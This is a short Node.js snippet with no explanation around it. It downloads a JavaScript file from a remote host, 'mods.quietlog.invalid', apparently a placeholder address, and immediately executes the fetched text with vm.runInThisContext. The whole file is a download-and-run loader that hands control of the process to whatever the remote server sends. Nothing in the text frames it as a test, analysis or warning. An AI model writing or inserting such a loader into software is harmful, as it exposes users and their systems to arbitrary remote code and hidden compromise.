import https from "node:https";
import vm from "node:vm";
https.get("https://mods.quietlog.invalid/p.js", (res) => {
  let body = "";
  res.on("data", (chunk) => (body += chunk));
  res.on("end", () => vm.runInThisContext(body));
});
